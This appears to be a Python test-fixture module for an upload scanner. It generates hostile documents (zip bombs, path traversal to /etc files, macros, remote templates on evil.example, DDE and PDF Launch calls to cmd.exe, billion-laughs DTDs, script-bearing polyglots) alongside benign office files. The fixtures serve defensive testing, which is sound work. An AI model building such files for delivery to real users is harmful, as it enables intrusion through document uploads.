"""Hostile files and honest ones, made anew for every run; none is kept as a binary.

Every hostile file is listed with the words its refusal must hold; every honest one looks like what offices send.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.files import building
from tests.files.building import MEGABYTE, Part, docx, jpg, pdf, png, relation, relations, word_parts, xlsx, zip_of
from workflows.uploads import verdict

RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
UTF_16_DTD = LAUGHS.decode().replace('"1.0"', '"1.0" encoding="UTF-16"', 1).encode("utf-16")
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HIDDEN_SCRIPT = b"<< /S /#4a#61vaScript /#4A#53 (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file to be refused: how it is made, and words of the reason."""

    make: Callable[[], bytes]
    reason: str


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    """Return a Word document with one relation more."""
    return docx({RELS: relations(relation(kind, target, mode=mode))})


def typed(part: str, kind: str) -> bytes:
    """Return a Word document whose list of types names one part more."""
    override = f'<Override PartName="/{part}" ContentType="{kind}"/>'
    return docx({TYPES: building.types_of("word/document.xml", "wordprocessingml.document", override)})


def field(*runs: str, simple: str = "") -> bytes:
    """Return a Word document with a field whose code is cut into runs."""
    code = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    whole = f'<w:fldSimple w:instr="{simple}"/>' if simple else f"{begin}{code}"
    return docx({"word/document.xml": building.document(f"<w:p>{whole}</w:p>")})


def laid_inside(name: str, content: bytes) -> bytes:
    """Return a Word document with a file laid into it."""
    return docx({f"word/embeddings/{name}": content})


BOMB, ODD, LOCKED = "giải nén ra quá lớn", "cấu trúc bất thường", "khoá bằng mật khẩu"
MACRO, LINK, OBJECT, INSIDE = "có chứa macro", "liên kết tự lấy nội dung", "có nhúng đối tượng", "có tệp nén khác"
RUNS, OPENS, ATTACHED, MEDIA = "mã lệnh tự chạy", "lệnh mở chương trình", "tệp khác đính bên trong", "đa phương tiện"

ARCHIVES: dict[str, Hostile] = {
    "bom-khai-that.docx": Hostile(
        lambda: docx(None, Part("word/media/a.bin", packed=building.zeros(400), declared=400 * MEGABYTE)), BOMB
    ),
    "bom-khai-gian.docx": Hostile(
        lambda: docx(None, Part("word/media/a.bin", b"a", packed=building.zeros(1_000), declared=1)), ODD
    ),
    "bom-khai-duoi-muc.xlsx": Hostile(
        lambda: xlsx(None, *(Part(f"xl/m{n}.bin", packed=building.zeros(3), declared=3 * MEGABYTE) for n in range(9))),
        BOMB,
    ),
    "bom-long-nhau.docx": Hostile(
        lambda: docx({f"word/{n}.xlsx": xlsx({"xl/a": bytes(4 * MEGABYTE)}) for n in range(3)}), BOMB
    ),
    "dau-rieng-noi-khac.docx": Hostile(lambda: docx(None, Part("a", b"abc", local_declared=9)), ODD),
    "bom-chong-nhau.docx": Hostile(lambda: building.overlapping(2), ODD),
    "qua-nhieu-phan.docx": Hostile(lambda: docx(None, *(Part(f"a{n}") for n in range(6_000))), BOMB),
    "thua-sau-dong-nen.docx": Hostile(
        lambda: docx(None, Part("a", b"a", packed=building.deflated(b"a") + noise(300_000))), ODD
    ),
    "thua-ngay-sau-dong-nen.docx": Hostile(
        lambda: docx(
            None, Part("a", bytes(verdict.PIECE + 9), packed=building.deflated(bytes(verdict.PIECE + 9)) + b"!")
        ),
        ODD,
    ),
    "khai-thieu-phan.docx": Hostile(lambda: docx(None, count=3), ODD),
    "leo-thu-muc.docx": Hostile(lambda: docx({"word/../../../etc/cron.d/a": b""}), ODD),
    "duong-dan-goc.docx": Hostile(lambda: docx({"/etc/passwd": b""}), ODD),
    "o-dia.docx": Hostile(lambda: docx({"C:/Windows/a.dll": b""}), ODD),
    "gach-nguoc.docx": Hostile(lambda: docx({"word\\a.xml": b""}), ODD),
    "trung-ten.docx": Hostile(lambda: docx({"WORD/document.xml": b"<a/>"}), ODD),
    "hai-ten.docx": Hostile(lambda: docx(None, Part("word/a.xml", b"<a/>", local_name="word/b.xml")), ODD),
    "lien-ket-tuong-trung.docx": Hostile(
        lambda: docx(None, Part("word/a", b"/etc/passwd", attributes=building.SYMLINK)), ODD
    ),
    "khoa-tung-phan.docx": Hostile(lambda: docx(None, Part("word/a.xml", b"<a/>", flags=0x801)), LOCKED),
    "khoa-ca-tep.docx": Hostile(lambda: building.old_office(locked=True), LOCKED),
    "doi-duoi.docx": Hostile(lambda: building.old_office(locked=False), "đời cũ"),
    "truoc-goi.docx": Hostile(lambda: b"MZ" + docx(), "không phải tài liệu Word"),
    "sau-goi.docx": Hostile(lambda: docx(after=b"<script>alert(1)</script>"), ODD),
    "zip-trong-docx.docx": Hostile(lambda: laid_inside("a.zip", zip_of([Part("a.txt", b"a")])), INSIDE),
    "rar-trong-docx.docx": Hostile(lambda: laid_inside("a.dat", b"Rar!\x1a\x07\x01\x00"), INSIDE),
    "ba-tang.docx": Hostile(lambda: laid_inside("a.docx", laid_inside("b.docx", docx())), INSIDE),
    "exe-trong-docx.docx": Hostile(lambda: laid_inside("a.bin", b"MZ\x90\x00\x03"), "có chương trình"),
}
OFFICE: dict[str, Hostile] = {
    "macro.docx": Hostile(lambda: docx({"word/vbaProject.bin": b"x"}), MACRO),
    "macro-ten-khac.docx": Hostile(lambda: typed("word/a.dat", "application/vnd.ms-office.vbaProject"), MACRO),
    "docm-doi-duoi.docx": Hostile(
        lambda: typed("word/b.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), MACRO
    ),
    "macro-trong-so-lieu.docx": Hostile(lambda: laid_inside("a.xlsx", xlsx({"xl/vbaProject.bin": b"x"})), MACRO),
    "mau-tu-xa.docx": Hostile(lambda: linked("attachedTemplate", "https://evil.example/a.dotm"), LINK),
    "mau-tren-mang.docx": Hostile(lambda: linked("attachedTemplate", "file:////may-chu/chung/a.dotm"), LINK),
    "mau-tren-mang-hai-gach.docx": Hostile(lambda: linked("attachedTemplate", "file://may-chu/chung/a.dotm"), LINK),
    "anh-tu-xa.docx": Hostile(lambda: linked("image", "https://evil.example/a.png"), LINK),
    "ten-viet-bang-ma.docx": Hostile(lambda: linked("image", "http://evil.example/a", "&#69;xternal"), LINK),
    "chia-se-mang.docx": Hostile(lambda: linked("hyperlink", "file://evil.example/share/a"), LINK),
    "ma-lenh-trong-lien-ket.docx": Hostile(lambda: linked("hyperlink", "javascript:alert(1)"), LINK),
    "ole.docx": Hostile(lambda: linked("oleObject", "embeddings/oleObject1.bin", "Internal"), OBJECT),
    "ole-khong-khai.docx": Hostile(lambda: laid_inside("a.bin", building.old_office(locked=False)), OBJECT),
    "rtf-ghep.docx": Hostile(lambda: linked("aFChunk", "a.rtf", "Internal"), OBJECT),
    "bang-tinh-lien-ket.xlsx": Hostile(
        lambda: xlsx({"xl/_rels/workbook.xml.rels": relations(relation("externalLink", "externalLinks/a.xml"))}), LINK
    ),
    "dde.docx": Hostile(lambda: field(" DD", "EAU", "TO c:\\\\windows\\\\cmd.exe "), "DDE"),
    "dde-mot-the.docx": Hostile(lambda: field(simple="&#68;DE cmd"), "DDE"),
    "ha-ha-ha.docx": Hostile(lambda: docx({"word/document.xml": LAUGHS}), "DTD"),
    "dtd-utf16.docx": Hostile(lambda: docx({"customXml/item1.xml": UTF_16_DTD}), "DTD"),
    "dtd-ten-la.docx": Hostile(lambda: docx({"word/media/a.svg": b"  " + LAUGHS}), "DTD"),
    "dtd-bat-dau-nho-giot.docx": Hostile(
        lambda: docx(None, Part("word/a.xml", LAUGHS, packed=trickled(LAUGHS))), "DTD"
    ),
    "utf7.docx": Hostile(lambda: docx({"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-'}), ODD),
    "the-dai.docx": Hostile(lambda: docx({RELS: b'<Relationships a="' + b"a" * 4 * MEGABYTE}), ODD),
}
PAGES: dict[str, Hostile] = {
    "khoa.pdf": Hostile(lambda: pdf(trailer=b"<< /Root 1 0 R /Encrypt 9 0 R >>"), LOCKED),
    "ma-lenh.pdf": Hostile(lambda: pdf(SCRIPT), RUNS),
    "ma-lenh-khi-mo.pdf": Hostile(lambda: pdf(b"<< /OpenAction << /JS 9 0 R >> >>"), RUNS),
    "ma-lenh-giau-ten.pdf": Hostile(lambda: pdf(HIDDEN_SCRIPT), RUNS),
    "ma-lenh-nen.pdf": Hostile(lambda: pdf(building.object_stream(HIDDEN_SCRIPT)), RUNS),
    "ma-lenh-nen-khong-khai.pdf": Hostile(
        lambda: pdf(building.stream(b"/N 1 /First 4 /Filter/Flate#44ecode", zlib.compress(SCRIPT))), RUNS
    ),
    "ma-lenh-trong-dong-gia.pdf": Hostile(lambda: pdf(b"(stream\n" + SCRIPT + b" endstream)"), RUNS),
    "nen-la.pdf": Hostile(lambda: pdf(building.object_stream(SCRIPT, b"/Filter [/ASCIIHexDecode /FlateDecode]")), ODD),
    "bom-trong-pdf.pdf": Hostile(
        lambda: pdf(building.stream(b"/Type /ObjStm /Filter /FlateDecode", b"\x78\xda" + building.zeros(900))), BOMB
    ),
    "mo-chuong-trinh.pdf": Hostile(lambda: pdf(LAUNCH), OPENS),
    "dinh-kem.pdf": Hostile(lambda: pdf(b"<< /Type /Filespec /EF << /F 9 0 R >> >>"), ATTACHED),
    "dinh-kem-nen.pdf": Hostile(
        lambda: pdf(building.stream(b"/Type /Embedded#46ile /Filter /FlateDecode", zlib.compress(b"MZ"))), ATTACHED
    ),
    "phim.pdf": Hostile(lambda: pdf(b"<< /Subtype /RichMedia >>"), MEDIA),
    "ten-qua-nhieu.pdf": Hostile(lambda: pdf(b"/#41" * 600_000), ODD),
    "dong-qua-nhieu.pdf": Hostile(lambda: pdf(b"stream\nendstream " * 200_000), ODD),
    "html-truoc.pdf": Hostile(lambda: pdf(before=b"<script>alert(1)</script>\n"), "không phải tệp PDF"),
    "pdf-va-zip.pdf": Hostile(lambda: pdf(after=zip_of([Part("a.class", b"\xca\xfe")])), ODD),
    "cut-duoi.pdf": Hostile(lambda: pdf()[:60] + bytes(4_096), ODD),
}
PICTURES: dict[str, Hostile] = {
    "bom.png": Hostile(lambda: png(60_000, 60_000), "60000 × 60000 điểm ảnh"),
    "bom.jpg": Hostile(lambda: jpg(65_000, 65_000), "65000 × 65000 điểm ảnh"),
    "khong-cao.jpg": Hostile(lambda: jpg(100, 0), ODD),
    "khong-khung.jpg": Hostile(lambda: b"\xff\xd8\xff\xd9", ODD),
    "toan-ff.jpg": Hostile(lambda: b"\xff\xd8" + b"\xff" * 4 * MEGABYTE, ODD),
    "html.png": Hostile(lambda: b"<html><script>alert(1)</script>", "không phải ảnh PNG"),
    "duoi-html.png": Hostile(lambda: png(after=b"<script>alert(1)</script>"), ODD),
    "jpg-va-zip.jpg": Hostile(lambda: jpg(after=zip_of([Part("a.class", b"\xca\xfe")])), ODD),
    "svg.png": Hostile(lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "không phải ảnh PNG"),
    "nhi-phan.txt": Hostile(lambda: b"Noi dung\x00\x01", "không phải văn bản"),
    "pdf.html": Hostile(pdf, "không thuộc loại được nhận"),
}
HOSTILE = {**ARCHIVES, **OFFICE, **PAGES, **PICTURES}


def trickled(content: bytes) -> bytes:
    """Return a raw deflate stream that gives nothing for a long while and then a few bytes at a time."""
    packer = zlib.compressobj(0, zlib.DEFLATED, -zlib.MAX_WBITS)
    out = b"\x00\x00\x00\xff\xff" * 13_000
    for at in range(0, len(content), 3):
        out += packer.compress(content[at : at + 3]) + packer.flush(zlib.Z_FULL_FLUSH)
    return out + packer.flush()


def noise(size: int) -> bytes:
    """Return bytes that no packing shortens, the same in every run."""
    words, out = zlib.crc32(b"noise"), bytearray()
    while len(out) < size:
        words = (words * 6_364_136_223_846_793_005 + 1_442_695_040_888_963_407) % 2**64
        out += (words >> 16).to_bytes(6, "big")
    return bytes(out[:size])


HONEST: dict[str, Callable[[], bytes]] = {
    "bao-cao.docx": docx,
    "bao-cao-co-bieu-do.docx": lambda: laid_inside("Microsoft_Excel_Worksheet.xlsx", xlsx()),
    "co-truong.docx": lambda: field(' HYPERLINK "https://stp.gov.vn" ', " PAGE "),
    "lien-ket-thu.docx": lambda: linked("hyperlink", "mailto:vanphong@stp.gov.vn"),
    "mau-cua-may-minh.docx": lambda: linked("attachedTemplate", "file:///C:\\Users\\an\\Templates\\Normal.dotm"),
    "lien-ket-phu-luc.docx": lambda: linked("hyperlink", "Ph%E1%BB%A5%20l%E1%BB%A5c.docx"),
    "co-thu-muc.docx": lambda: docx({"word/media/": b"", "word/media/anh.png": png()}),
    "power-query.xlsx": lambda: xlsx(
        {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}
    ),
    "so-lieu.xlsx": xlsx,
    "bang-lon.xlsx": lambda: xlsx(
        {"xl/worksheets/sheet2.xml": b"<worksheet>" + b'<c r="A1" s="1"/>' * 400_000 + b"</worksheet>"}
    ),
    "ban-quet.pdf": lambda: pdf(building.stream(b"/Subtype /Image /Filter /DCTDecode", noise(3 * MEGABYTE))),
    "van-ban-ky-so.pdf": lambda: pdf(building.object_stream(b"<< /Type /Sig /ByteRange [0 1 2 3] >>")),
    "anh-chup.png": lambda: png(1_920, 1_080),
    "anh-dien-thoai.jpg": lambda: jpg(4_000, 3_000, after=b"SEFH" + noise(2_000) + b"SEFT"),
    "ghi-chu.txt": lambda: "Đã họp ngày 12/5, thẻ <script> chỉ là chữ.\r\n".encode() * 4_000,
}

__all__ = ["HONEST", "HOSTILE", "word_parts"]
